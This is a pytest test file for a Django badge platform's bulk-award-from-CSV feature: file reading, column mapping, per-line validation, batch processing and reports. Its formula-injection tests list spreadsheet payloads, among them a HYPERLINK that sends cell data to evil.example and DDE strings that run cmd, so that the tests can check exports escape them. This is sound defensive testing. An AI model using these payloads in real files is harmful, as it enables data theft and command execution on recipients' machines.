"""Bulk award from CSV: reading (delimiters, BOM, encodings, size), column mapping, the
preview with per-line errors, processing in batches, the report, and bad input."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from badges.awarding import bulk
from badges.models import Assertion, Award, BulkAward, BulkAwardRow
from issuers.audit import audit_log
from issuers.models import AuditEntry
from tests.factories import BadgeClassFactory, UserFactory

from .factories import AwardFactory, make_issuable

pytestmark = pytest.mark.django_db


def _file(text: str, *, name: str = "students.csv", encoding: str = "utf-8", bom: bool = False):
    data = text.encode(encoding)
    if bom:
        data = b"\xef\xbb\xbf" + data
    return SimpleUploadedFile(name, data, content_type="text/csv")


def _upload(actor, badge_class, text: str, **kwargs) -> BulkAward:
    return bulk.bulk_award_upload(actor=actor, badge_class=badge_class, file=_file(text, **kwargs))


def _errors(bulk_award: BulkAward) -> dict[int, list[str]]:
    return {
        row.line: [error["code"] for error in row.errors]
        for row in bulk_award.rows.filter(status=BulkAwardRow.Status.INVALID)
    }


# --- reading -------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("bom", [False, True])
def test_semicolon_comma_and_tab_with_or_without_bom(ready, awarder, delimiter, bom):
    text = delimiter.join(["E-mail", "Naam", "Toelichting"]) + "\n"
    text += delimiter.join(["a@student.example", '"Jansen, Anna"', '"Led; the team"']) + "\n"
    text += delimiter.join(["b@student.example", "Bram", "Presented"]) + "\n"
    upload = _upload(awarder, ready["a"]["badge_class"], text, bom=bom)
    assert upload.delimiter == delimiter
    assert upload.header == ["E-mail", "Naam", "Toelichting"]
    assert upload.mapping == {"email": 0, "name": 1, "narrative": 2}
    assert upload.total_rows == 2
    prepared = bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    row = prepared.rows.get(line=2)
    assert row.email == "a@student.example"
    assert row.name == "Jansen, Anna"
    assert prepared.valid_rows == 2


def test_an_excel_export_with_crlf_and_quoted_newlines_keeps_line_numbers(ready, awarder):
    text = 'email;narrative\r\na@student.example;"two\r\nlines"\r\nnot-an-email;x\r\n'
    upload = _upload(awarder, ready["a"]["badge_class"], text)
    prepared = bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    assert prepared.rows.get(line=2).narrative == "two\r\nlines"
    assert _errors(prepared) == {4: ["invalid_email"]}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            "email\nmarie@student.example;Marié\n".encode("latin-1"),
            "not UTF-8 encoded (the first unreadable character is on line 2)",
        ),
        ("email\nx@student.example\n".encode("utf-16"), "UTF-16"),
        (b"PK\x03\x04 a zipped workbook", "Excel workbook"),
        (b"   \n\n", "The file is empty."),
        (b"email\n", "no lines below the header"),
        (b"a@student.example;Anna\nb@student.example;Bram\n", "must name the columns"),
        (b"email\nx\x00y\n", "binary data"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(ready, awarder, data, message):
    with pytest.raises(ValidationError) as error:
        bulk.bulk_award_upload(
            actor=awarder,
            badge_class=ready["a"]["badge_class"],
            file=SimpleUploadedFile("x.csv", data),
        )
    assert message in " ".join(error.value.messages)
    assert not BulkAward.objects.exists()


def test_a_file_over_50_mb_is_refused_before_it_is_read(ready, awarder):
    class Huge:
        name = "huge.csv"
        size = 50 * 1024 * 1024 + 1

        def read(self, *args):
            raise AssertionError("a file over the limit must not be read")

    with pytest.raises(ValidationError) as error:
        bulk.bulk_award_upload(actor=awarder, badge_class=ready["a"]["badge_class"], file=Huge())
    assert "at most 50.0\xa0MB" in " ".join(error.value.messages)


def test_the_upload_page_refuses_a_50_mb_file_with_a_clear_message(client, ready, awarder):
    client.force_login(awarder)
    data = b"email\n" + b"x" * (50 * 1024 * 1024)
    response = client.post(
        reverse("staff:bulk_upload", args=[ready["a"]["badge_class"].pk]),
        {"file": SimpleUploadedFile("big.csv", data, content_type="text/csv")},
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert (
        "error-summary" in page and "at most 50.0" in page and "Split it into smaller files" in page
    )
    assert not BulkAward.objects.exists()


def test_more_lines_than_the_limit_are_refused(ready, awarder, settings):
    settings.BULK_AWARD_MAX_ROWS = 3
    text = "email\n" + "".join(f"s{i}@student.example\n" for i in range(4))
    with pytest.raises(ValidationError, match="at most 3"):
        _upload(awarder, ready["a"]["badge_class"], text)


# --- mapping and the preview -------------------------------------------------------------------


def test_missing_columns_are_refused_at_the_mapping(ready, awarder):
    badge_class = BadgeClassFactory(issuer=ready["a"]["issuer"], narrative_required=True)
    upload = _upload(awarder, badge_class, "student;grade\na@student.example;8\n")
    assert upload.mapping == {"grade": 1}
    with pytest.raises(ValidationError) as error:
        bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    messages = " ".join(error.value.messages)
    assert "email address or the eppn" in messages
    assert "requires a narrative" in messages
    # Choosing the column by hand and one narrative for everyone is enough.
    prepared = bulk.bulk_award_prepare(
        actor=awarder, bulk=upload, mapping={"email": 0, "grade": 1}, narrative="Summer school"
    )
    assert prepared.valid_rows == 1


def test_the_preview_names_every_problem_per_line_and_awards_nothing(ready, awarder, issue):
    institution = ready["a"]["institution"]
    institution.eppn_pattern = r"^s[0-9]+@a\.example$"
    institution.save()
    badge_class = BadgeClassFactory(issuer=ready["a"]["issuer"], narrative_required=True)
    issue(badge_class=badge_class, email="holder@student.example")
    AwardFactory(badge_class=badge_class, recipient_email="offered@student.example")
    UserFactory(email="known@student.example", eppn="s77@a.example")
    text = "\n".join(
        [
            "email;eppn;narrative;language",
            "ok@student.example;;Did it;nl",  # 2 fine
            "not-an-email;;Did it;",  # 3
            ";someone@b.example;Did it;",  # 4 eppn not matching
            "OK@student.example;;Again;",  # 5 duplicate of line 2
            "holder@student.example;;Did it;",  # 6 already holds
            "offered@student.example;;Did it;",  # 7 already offered
            "new@student.example;;;",  # 8 narrative missing
            ";;Did it;",  # 9 nobody
            "lang@student.example;;Did it;fr",  # 10 language
            ";s77@a.example;Did it;",  # 11 fine: eppn of an account
            "known@student.example;;Did it;",  # 12 the same person by email: duplicate
            "extra@student.example;;Did it;;surprise",  # 13 too many cells
        ]
    )
    upload = _upload(awarder, badge_class, text + "\n")
    prepared = bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    assert _errors(prepared) == {
        3: ["invalid_email"],
        4: ["eppn_mismatch"],
        5: ["duplicate"],
        6: ["already_holds"],
        7: ["already_offered"],
        8: ["narrative_required"],
        9: ["missing_identity"],
        10: ["invalid_language"],
        12: ["duplicate"],
        13: ["too_many_cells"],
    }
    assert prepared.rows.get(line=5).errors[0]["params"] == {"line": 2}
    assert prepared.valid_rows == 2 and prepared.error_rows == 10
    assert prepared.status == BulkAward.Status.PREVIEW
    assert Award.objects.filter(badge_class=badge_class).count() == 1  # only the one made above
    text = bulk.row_errors_text(prepared.rows.get(line=5))
    assert text == "Same recipient as line 2."


def test_prerequisites_are_checked_per_line_and_an_admin_may_override(ready, admin, issue):
    basic = ready["a"]["badge_class"]
    advanced = BadgeClassFactory(issuer=ready["a"]["issuer"], name_en="Advanced")
    advanced.prerequisites.set([basic])
    issue(badge_class=basic, email="has@student.example")
    upload = _upload(admin, advanced, "email\nhas@student.example\nlacks@student.example\n")
    prepared = bulk.bulk_award_prepare(actor=admin, bulk=upload, mapping=upload.mapping)
    assert _errors(prepared) == {3: ["prerequisites_missing"]}
    prepared = bulk.bulk_award_prepare(
        actor=admin,
        bulk=upload,
        mapping=upload.mapping,
        override_prerequisites=True,
        override_reason="Exemptions from the exam committee",
    )
    assert prepared.valid_rows == 2
    assert prepared.rows.get(line=3).prerequisites_overridden


# --- the whole journey through the staff pages -------------------------------------------------


def test_bulk_award_through_the_pages_with_progress_and_report(
    client, ready, awarder, commits, mailoutbox
):
    badge_class = ready["a"]["badge_class"]
    client.force_login(awarder)
    text = "email;name\na@student.example;Anna\nb@student.example;Bram\nbroken;Carl\n"
    response = client.post(
        reverse("staff:bulk_upload", args=[badge_class.pk]), {"file": _file(text)}
    )
    upload = BulkAward.objects.get()
    assert response["Location"] == reverse("staff:bulk_map", args=[upload.pk])
    page = client.get(response["Location"]).content.decode()
    assert "a@student.example" in page  # the first values help choosing the columns

    response = client.post(
        reverse("staff:bulk_map", args=[upload.pk]),
        {"column_email": "0", "column_name": "1", "narrative": "Took part in the summer school"},
    )
    assert response["Location"] == reverse("staff:bulk", args=[upload.pk])
    page = client.get(response["Location"]).content.decode()
    assert "2 lines can be awarded." in page and "1 line has an error." in page
    assert "“broken” is not a valid email address." in page
    assert not Award.objects.exists()

    # Lines in error must be skipped explicitly.
    client.post(reverse("staff:bulk_start", args=[upload.pk]))
    upload.refresh_from_db()
    assert upload.status == BulkAward.Status.PREVIEW
    with commits():
        client.post(reverse("staff:bulk_start", args=[upload.pk]), {"skip_errors": "on"})
    upload.refresh_from_db()
    assert upload.status == BulkAward.Status.DONE
    assert upload.created_awards == 2 and upload.processed_rows == 2

    progress = client.get(reverse("staff:bulk_progress", args=[upload.pk])).json()
    assert progress["finished"] is True and progress["percent"] == 100
    assert "Done: 2 badges awarded." in progress["message"]
    assert "bulk-progress" in client.get(reverse("staff:bulk", args=[upload.pk])).content.decode()

    awards = Award.objects.filter(bulk_award=upload)
    assert {a.recipient_email for a in awards} == {"a@student.example", "b@student.example"}
    assert {a.narrative for a in awards} == {"Took part in the summer school"}
    assert all(a.status == Award.Status.OFFERED for a in awards)
    assert sorted(m.to[0] for m in mailoutbox) == ["a@student.example", "b@student.example"]
    assert AuditEntry.objects.filter(action="award_create", actor=awarder).count() == 2
    assert (
        AuditEntry.objects.filter(action__in=["bulk_award_start", "bulk_award_finish"]).count() == 2
    )
    upload.refresh_from_db()
    assert upload.source == ""  # the file itself is not kept once processing starts

    report = b"".join(client.get(reverse("staff:bulk_report", args=[upload.pk])).streaming_content)
    lines = list(csv.reader(io.StringIO(report.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][:5] == ["line", "email", "eppn", "name", "result"]
    by_line = {line[0]: line for line in lines[1:]}
    assert by_line["2"][4] == "awarded" and by_line["2"][6] == "Offered"
    assert by_line["4"][4] == "error" and "not a valid email address" in by_line["4"][5]


def test_a_scheduled_bulk_award_waits_for_its_date(ready, awarder, commits, mailoutbox):
    upload = _upload(awarder, ready["a"]["badge_class"], "email\na@student.example\n")
    moment = timezone.now() + timedelta(days=2)
    bulk.bulk_award_prepare(
        actor=awarder, bulk=upload, mapping=upload.mapping, scheduled_for=moment
    )
    with commits():
        bulk.bulk_award_start(actor=awarder, bulk=upload)
    award = Award.objects.get()
    assert award.status == Award.Status.SCHEDULED and award.scheduled_for == moment
    assert mailoutbox == []


def test_a_type_that_issues_directly_issues_every_line(ready, awarder, commits):
    make_issuable(ready["a"]["institution"], direct=True)
    upload = _upload(
        awarder, ready["a"]["badge_class"], "email\na@student.example\nb@student.example\n"
    )
    bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    with commits():
        bulk.bulk_award_start(actor=awarder, bulk=upload)
    assert set(Award.objects.values_list("status", flat=True)) == {Award.Status.CLAIMED}
    assert Assertion.objects.filter(status=Assertion.Status.ISSUED).count() == 2


def test_processing_twice_or_after_a_crash_never_awards_a_line_twice(
    ready, awarder, commits, settings
):
    settings.BULK_AWARD_BATCH_SIZE = 2
    text = "email\n" + "".join(f"s{i}@student.example\n" for i in range(5))
    upload = _upload(awarder, ready["a"]["badge_class"], text)
    bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    BulkAward.objects.filter(pk=upload.pk).update(status=BulkAward.Status.QUEUED)
    # A worker that died after the first batch: the batch is committed, the upload stuck.
    rows = list(upload.rows.order_by("line")[:2])
    with commits():
        bulk.processing._award_rows(BulkAward.objects.get(pk=upload.pk), rows)
    BulkAward.objects.filter(pk=upload.pk).update(processed_rows=2, created_awards=2)
    with commits():
        assert bulk.bulk_award_process(bulk_id=upload.pk) is True
        assert bulk.bulk_award_process(bulk_id=upload.pk) is False  # a duplicate message
    upload.refresh_from_db()
    assert upload.status == BulkAward.Status.DONE
    assert Award.objects.count() == 5 and upload.created_awards == 5


def test_lines_awarded_by_someone_else_meanwhile_are_skipped(ready, awarder, commits):
    upload = _upload(
        awarder, ready["a"]["badge_class"], "email\na@student.example\nb@student.example\n"
    )
    bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    AwardFactory(badge_class=ready["a"]["badge_class"], recipient_email="b@student.example")
    with commits():
        bulk.bulk_award_start(actor=awarder, bulk=upload)
    upload.refresh_from_db()
    assert upload.created_awards == 1 and upload.skipped_rows == 1
    assert upload.rows.get(line=3).status == BulkAwardRow.Status.SKIPPED


def test_cancel_before_start_awards_nothing(client, ready, awarder):
    upload = _upload(awarder, ready["a"]["badge_class"], "email\na@student.example\n")
    client.force_login(awarder)
    client.post(reverse("staff:bulk_cancel", args=[upload.pk]))
    upload.refresh_from_db()
    assert upload.status == BulkAward.Status.CANCELLED and not upload.rows.exists()
    with pytest.raises(ValidationError):
        bulk.bulk_award_start(actor=awarder, bulk=upload)
    assert not Award.objects.exists()


def test_lines_are_purged_after_the_retention_period(ready, awarder, commits):
    upload = _upload(awarder, ready["a"]["badge_class"], "email\na@student.example\nbad\n")
    bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    with commits():
        bulk.bulk_award_start(actor=awarder, bulk=upload, skip_errors=True)
    assert bulk.bulk_awards_purge() == 0
    assert bulk.bulk_awards_purge(now=timezone.now() + timedelta(days=31)) == 2
    upload.refresh_from_db()
    assert upload.created_awards == 1 and not upload.rows.exists()
    assert Award.objects.count() == 1


# --- formula injection ----------------------------------------------------------------------


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_spreadsheet_safe_defuses_formulas(value):
    assert bulk.spreadsheet_safe(value) == "'" + value
    assert bulk.spreadsheet_safe("Anna") == "Anna"


def test_formulas_in_an_upload_never_reach_the_report_unescaped(client, ready, awarder, commits):
    rows = [("a@student.example", DANGEROUS[0]), ("=1+2", DANGEROUS[1])]
    rows += [(f"x{i}@student.example", value) for i, value in enumerate(DANGEROUS[2:4])]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["email", "name", "grade"])
    for email, value in rows:
        writer.writerow([email, value, value[:60]])
    upload = _upload(awarder, ready["a"]["badge_class"], buffer.getvalue())
    bulk.bulk_award_prepare(actor=awarder, bulk=upload, mapping=upload.mapping)
    with commits():
        bulk.bulk_award_start(actor=awarder, bulk=upload, skip_errors=True)
    client.force_login(awarder)
    report = b"".join(client.get(reverse("staff:bulk_report", args=[upload.pk])).streaming_content)
    cells = [
        cell
        for line in csv.reader(io.StringIO(report.decode("utf-8-sig")), delimiter=";")
        for cell in line
    ]
    assert all(not cell.startswith(bulk.FORMULA_PREFIXES) for cell in cells), cells
    assert "'" + DANGEROUS[0] in cells and "'=1+2" in cells


def test_the_audit_export_is_spreadsheet_safe_too(client, ready, admin):
    audit_log(
        actor=None,
        institution=ready["a"]["institution"],
        action="award_withdraw",
        summary='=HYPERLINK("http://evil.example","x")',
        data={"reason": "+cmd"},
    )
    client.force_login(admin)
    response = client.get(
        reverse("staff:audit_log", args=[ready["a"]["institution"].pk]), {"format": "csv"}
    )
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(content)) for cell in line]
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
    assert all(not cell.startswith(bulk.FORMULA_PREFIXES) for cell in cells)
    assert json.loads(cells[-1].lstrip("'"))["reason"] == "+cmd"
